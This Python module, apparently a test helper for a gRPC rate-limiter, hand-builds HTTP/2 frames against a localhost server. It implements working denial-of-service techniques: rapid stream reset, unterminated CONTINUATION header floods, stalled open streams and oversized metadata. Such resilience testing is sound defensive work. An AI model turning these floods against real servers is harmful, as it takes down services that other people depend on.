"""Just enough of HTTP/2 to misuse it: frames as bytes, and a connection."""

import select
import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
MAX_FRAME = 16384
SHOULD_ALLOW = b"/tollgate.v1.RateLimiter/ShouldAllow"


def frame(kind, flags, stream, payload=b""):
  return (struct.pack(">I", len(payload))[1:] +
          struct.pack(">BBI", kind, flags, stream) + payload)


def string(text):
  """A string of HPACK, not compressed."""
  size = len(text)
  if size < 127:
    return bytes([size]) + text
  out = bytearray([127])
  size -= 127
  while size >= 128:
    out.append(size % 128 | 128)
    size //= 128
  out.append(size)
  return bytes(out) + text


def literal(name, value):
  """A header that goes into no table."""
  return b"\x00" + string(name) + string(value)


def indexed_literal(name, value):
  """A header that the receiver remembers, as the newest of its table."""
  return b"\x40" + string(name) + string(value)


# Written once on a connection; afterwards REPEATED_HEADERS says the same.
FIRST_HEADERS = (b"\x83\x86" + indexed_literal(b":path", SHOULD_ALLOW) +
                 indexed_literal(b":authority", b"x") +
                 indexed_literal(b"te", b"trailers") +
                 indexed_literal(b"content-type", b"application/grpc"))
REPEATED_HEADERS = b"\x83\x86" + bytes(
    [0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62])


class Connection:
  """A socket from `source` that has greeted. With ack=False it never confirms
  the server's settings, so that gRPC holds it to none of them. `tls`: a
  context, or None."""

  def __init__(self, port, source, ack=True, tls=None):
    self.socket = socket.create_connection(("127.0.0.1", port),
                                           timeout=10,
                                           source_address=(source, 0))
    try:
      if tls is not None:
        self.socket = tls.wrap_socket(self.socket,
                                      do_handshake_on_connect=False)
        self.socket.do_handshake()
      self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
      self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) +
                          (frame(SETTINGS, ACK, 0) if ack else b""))
    except OSError:
      self.socket.close()
      raise
    self.stream = -1

  def next_headers(self):
    self.stream += 2
    return FIRST_HEADERS if self.stream == 1 else REPEATED_HEADERS

  def send(self, data):
    """Whether the server still takes it."""
    try:
      self.socket.sendall(data)
      return self.drain()
    except OSError:
      return False

  def drain(self):
    """Reads what is there, so that nobody can say it was never read;
    whether the server is still there."""
    pending = getattr(self.socket, "pending", lambda: 0)
    while pending() or select.select([self.socket], [], [], 0)[0]:
      if not self.socket.recv(1 << 16):
        return False
    return True

  def close(self):
    self.socket.close()


def rapid_reset(connection, count=200):
  """Calls that are begun and taken back at once."""
  out = []
  for _ in range(count):
    headers = connection.next_headers()
    out.append(frame(HEADERS, END_HEADERS, connection.stream, headers))
    out.append(
        frame(RST_STREAM, 0, connection.stream, struct.pack(">I", CANCEL)))
  return b"".join(out)


def open_streams(connection, count=200):
  """Calls whose message never comes."""
  out = []
  for _ in range(count):
    headers = connection.next_headers()
    out.append(frame(HEADERS, END_HEADERS, connection.stream, headers))
  return b"".join(out)


def endless_headers(connection):
  """Headers of one call, whose end never comes: the first part, then more."""
  junk = literal(b"x-junk", b"j" * 100) * 27  # under 8 KiB, the limit
  begin = b""
  if connection.stream < 0:
    begin = frame(HEADERS, 0, 1, connection.next_headers())
  return begin + frame(CONTINUATION, 0, 1, junk) * 16


def huge_metadata(connection, size):
  """One call with a header of so many bytes."""
  block = connection.next_headers() + literal(b"x-huge", b"h" * size)
  parts = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
  out = [frame(HEADERS, 0, connection.stream, parts[0])]
  out += [frame(CONTINUATION, 0, connection.stream, p) for p in parts[1:-1]]
  out.append(
      frame(CONTINUATION, END_HEADERS, connection.stream, parts[-1]))
  return b"".join(out)


def message_start(connection, size):
  """One call, up to the first bytes of a message that is to have `size`."""
  headers = connection.next_headers()
  return (frame(HEADERS, END_HEADERS, connection.stream, headers) +
          frame(DATA, 0, connection.stream, b"\0" + struct.pack(">I", size)))


def message_part(connection):
  return frame(DATA, 0, connection.stream, b"m" * MAX_FRAME)
